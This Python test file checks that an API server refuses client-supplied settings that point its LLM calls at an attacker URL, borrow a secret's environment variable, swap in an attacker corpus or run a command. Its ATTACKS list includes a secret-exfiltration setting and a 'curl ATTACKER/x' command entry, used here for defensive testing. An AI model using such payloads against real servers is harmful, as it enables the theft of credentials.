"""Issue #11 item 1: an API plan may only pick settings that name an endpoint, a secret, a program or a path
among what the server's own settings file offers. A listener on 127.0.0.1 stands for the attacker's URL; the
server's environment holds a secret; no API request may make the server send anything there."""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from tests.support.api import error
from tests.support.catalogs import write_catalog
from tests.support.harvest import PRODUCT, page, source, write_corpus
from tests.support.polling import wait_until
from tests.support.servers import Server, start_server, stop_server
from tests.support.sites import ChatStub

P = "/api/v1/indexlab"
SECRET_ENV, SECRET = "INDEXLAB_TEST_CLOUD_SECRET", "sk-live-do-not-leak"
ADMIN_ENV, ADMIN_KEY = "INDEXLAB_TEST_ADMIN_LLM_KEY", "sk-admin-endpoint"
SHOP = page("<ul><li>Weight: 58 g</li><li>DPI: 26000</li><li>Polling rate: 8 kHz</li></ul>")


class Listener:
    """Any HTTP request, any method, to 127.0.0.1:port is recorded (path and Authorization header)."""

    def __init__(self) -> None:
        seen: list[dict[str, str | None]] = []

        class Record(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def _record(self) -> None:
                seen.append({"method": self.command, "path": self.path, "auth": self.headers.get("Authorization")})
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_HEAD = _record  # noqa: N815

        self.seen = seen
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@dataclass
class Setup:
    server: Server
    attacker: Listener
    admin: ChatStub
    corpus: Path
    attacker_corpus: Path

    def plan(self, settings: dict) -> httpx.Response:
        body = {"selection": {"product_ids": [PRODUCT["product_id"]]}, "settings": settings}
        return httpx.post(f"{self.server.url}{P}/batch/plan", json=body, timeout=30)


@pytest.fixture(scope="module")
def setup(tmp_path_factory) -> Iterator[Setup]:
    tmp = tmp_path_factory.mktemp("secrets")
    attacker = Listener()
    admin = ChatStub({"sensor": "Focus Pro 30K"}, rate_limited_first=0).start()
    corpus = write_corpus(tmp / "corpus", [source("shop-1", "retailer", "d-shop")], {"d-shop": SHOP})
    attacker_corpus = write_corpus(tmp / "evil", [source("shop-1", "retailer", None, url=f"{attacker.url}/page")])
    catalog = tmp / "catalog.csv"
    write_catalog(catalog, [(PRODUCT["product_id"], "mouse", PRODUCT["brand"], PRODUCT["model"], "")])
    settings = tmp / "settings.json"  # the administrator's: its own corpus, and one more LLM endpoint on offer
    settings.write_text(json.dumps({"corpus": str(corpus), "domain_cooldown_seconds": 0, "api_allow": {
        "llm_endpoints": [{"base_url": admin.base_url, "api_key_env": ADMIN_ENV}]}}))
    server = start_server(tmp / "s.duckdb", catalog, log=tmp / "s.log", args=["--settings", str(settings)],
                          env={SECRET_ENV: SECRET, ADMIN_ENV: ADMIN_KEY, "OPENAI_API_KEY": ""})
    yield Setup(server, attacker, admin, corpus, attacker_corpus)
    stop_server(server)
    attacker.close()
    admin.close()
    assert "Traceback" not in server.output(), server.output()


ATTACKS = [  # (settings an API client sends, the field the 403 names)
    ({"profile": "thorough", "llm_base_url": "ATTACKER/v1", "llm_api_key_env": SECRET_ENV}, "settings.llm_base_url"),
    ({"profile": "thorough", "llm_base_url": "ATTACKER/v1"}, "settings.llm_base_url"),
    ({"profile": "thorough", "llm_api_key_env": SECRET_ENV}, "settings.llm_api_key_env"),
    ({"profile": "thorough", "llm_base_url": "ADMIN", "llm_api_key_env": SECRET_ENV}, "settings.llm_api_key_env"),
    ({"profile": "thorough", "llm_base_url": "ADMIN"}, "settings.llm_api_key_env"),  # the default key is not for it
    ({"corpus": "ATTACKER_CORPUS"}, "settings.corpus"),
    ({"runner": "command", "command": ["curl", "ATTACKER/x"]}, "settings.command"),
]


@pytest.mark.parametrize(("attack", "field"), ATTACKS, ids=[a[1] + "-" + str(i) for i, a in enumerate(ATTACKS)])
def test_a_setting_naming_an_endpoint_secret_program_or_path_the_server_does_not_offer_is_403(setup, attack, field):
    settings = json.loads(json.dumps(attack).replace("ATTACKER_CORPUS", str(setup.attacker_corpus))
                          .replace("ATTACKER", setup.attacker.url).replace("ADMIN", setup.admin.base_url))
    response = setup.plan(settings)
    if response.status_code == 201:  # the defect: show where it leads, then fail
        batch = response.json()["batch_run_id"]
        httpx.post(f"{setup.server.url}{P}/batch/start", json={"batch_run_id": batch}, timeout=30)
        wait_until(lambda: httpx.get(f"{setup.server.url}{P}/batch/{batch}/status").json()["state"]
                   in ("completed", "paused", "stopped"), timeout=60)
    err = error(response, 403)
    assert err["code"] == "forbidden_setting" and err["field"] == field, err
    assert field in err["message"] and "--settings" in err["message"]
    assert setup.attacker.seen == [], setup.attacker.seen


def test_refused_plans_saved_nothing_and_the_attacker_heard_nothing(setup):
    for attack, _ in ATTACKS:
        setup.plan(json.loads(json.dumps(attack).replace("ATTACKER", setup.attacker.url)))
    batches = httpx.get(f"{setup.server.url}{P}/batch").json()["batches"]
    assert all(b["profile"] != "thorough" for b in batches), batches
    assert setup.attacker.seen == []


def test_an_endpoint_the_settings_file_offers_gets_its_own_key_and_the_attacker_nothing(setup):
    response = setup.plan({"profile": "thorough", "llm_provider": "admin", "llm_base_url": setup.admin.base_url,
                           "llm_api_key_env": ADMIN_ENV})
    assert response.status_code == 201, response.text
    batch = response.json()["batch_run_id"]
    start = httpx.post(f"{setup.server.url}{P}/batch/start", json={"batch_run_id": batch}, timeout=30)
    assert start.status_code == 200, start.text
    wait_until(lambda: httpx.get(f"{setup.server.url}{P}/batch/{batch}/status").json()["state"] == "completed",
               timeout=60)
    assert [r["auth"] for r in setup.admin.requests] == [f"Bearer {ADMIN_KEY}"]
    assert setup.attacker.seen == []


def test_the_servers_own_settings_are_always_allowed(setup):
    """Naming the server's own corpus, or its default endpoint and key, is no choice at all: fine."""
    assert setup.plan({"corpus": str(setup.corpus)}).status_code == 201
    response = setup.plan({"profile": "thorough", "llm_base_url": "https://api.openai.com/v1",
                           "llm_api_key_env": "OPENAI_API_KEY"})
    assert response.status_code == 201, response.text


def test_allow_command_opens_programs_and_paths_but_never_endpoints_or_secrets(tmp_path):
    """INDEXLAB_API_ALLOW_COMMAND=1 (a trusted local client) may name a program or corpus, not an LLM endpoint or key."""
    catalog = tmp_path / "c.csv"
    write_catalog(catalog, [(PRODUCT["product_id"], "mouse", "Acme", "Swift Pro", "")])
    server = start_server(tmp_path / "a.duckdb", catalog, log=tmp_path / "a.log",
                          env={"INDEXLAB_API_ALLOW_COMMAND": "1", SECRET_ENV: SECRET})
    try:
        body = {"selection": {"all": True}}
        ok = httpx.post(f"{server.url}{P}/batch/plan", json={**body, "settings": {
            "runner": "command", "command": [sys.executable, "-c", "print('{}')"]}})
        assert ok.status_code == 201, ok.text
        for settings, field in (({"llm_base_url": "http://127.0.0.1:9/v1"}, "settings.llm_base_url"),
                                ({"llm_api_key_env": SECRET_ENV}, "settings.llm_api_key_env")):
            err = error(httpx.post(f"{server.url}{P}/batch/plan", json={**body, "settings": settings}), 403)
            assert err["field"] == field
    finally:
        stop_server(server)
